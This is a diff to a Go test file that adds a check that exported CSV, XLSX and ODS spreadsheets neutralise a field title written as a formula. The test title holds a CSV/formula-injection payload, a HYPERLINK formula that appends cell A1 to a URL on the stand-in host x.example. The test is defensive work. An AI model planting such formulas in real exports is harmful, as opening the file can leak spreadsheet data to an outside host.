@@ -1,9 +1,11 @@
 package ogc_test
 
 import (
+	"bytes"
 	"context"
 	"encoding/json"
 	"fmt"
+	"os"
 	"path/filepath"
 	"strings"
 	"testing"
@@ -14,6 +16,7 @@ import (
 
 	"spoina/internal/access"
 	"spoina/internal/db"
+	"spoina/internal/exchange"
 	"spoina/internal/register"
 	"spoina/internal/register/registertest"
 	"spoina/ogc"
@@ -422,6 +425,51 @@ func TestOfficersFieldsComeBack(t *testing.T) {
 	require.NoError(t, err)
 	path, _ = export(t, s, ogc.Order{Collection: "decisions", Format: "csv", Lang: "pl", Columns: []string{name}, Sort: "id"})
 	require.Equal(t, "99.9", table(t, path, ';')[2][1])
+}
+
+// TestNoHeadingIsAFormula: a title of an own field is guarded like a cell, and is known again when the copy comes back.
+func TestNoHeadingIsAFormula(t *testing.T) {
+	s := town(t, 1)
+	ctx := context.Background()
+	kind, reason := "string", "proba"
+	title := register.Text{PL: `=HYPERLINK("http://x.example/?a,b,c,d"&A1,"Kliknij")`, EN: "@SUM(A1)"}
+	field, err := register.AddField(ctx, s, access.Operator(), register.Core(), "decisions", register.FieldChange{Type: &kind, Title: &title, Reason: &reason})
+	require.NoError(t, err)
+	colleague(t, s, "decisions", 4000001, field.Field, `"głos"`)
+	for _, format := range []string{"csv", "xlsx", "ods"} {
+		for _, lang := range []string{"pl", "en"} {
+			path, receipt := export(t, s, ogc.Order{Collection: "decisions", Format: format, Lang: lang, Columns: []string{field.Field, "street"}, Sort: "id"})
+			want := title.PL
+			if lang == "en" {
+				want = title.EN
+			}
+			if format == "csv" {
+				want = "'" + want
+			}
+			require.Equal(t, want, table(t, path, ';')[0][1])
+			verdict(t, path, receipt)
+			if format == "xlsx" {
+				book := opened(t, path)
+				formula, err := book.book.GetCellFormula(book.name, "B1")
+				require.NoError(t, err)
+				require.Empty(t, formula)
+			}
+			file := register.ReturnedFile{Path: path}
+			if format == "csv" {
+				body, err := os.ReadFile(path)
+				require.NoError(t, err)
+				require.NoError(t, os.WriteFile(path, bytes.Replace(body, []byte("głos"), []byte("inny"), 1), 0o600))
+				file.Revision = &receipt.Revision
+			}
+			set := back(t, s, "decisions", file)
+			for _, remark := range set.Remarks {
+				require.Equal(t, exchange.FileBare, remark.Code, "%v", remark)
+			}
+			if format == "csv" {
+				require.Equal(t, register.ChangeCounts{Edits: 1}, set.Counts, shown(set))
+			}
+		}
+	}
 }
 
 // A copy that a colleague with more rights made shows and changes nothing that its bringer may not see.
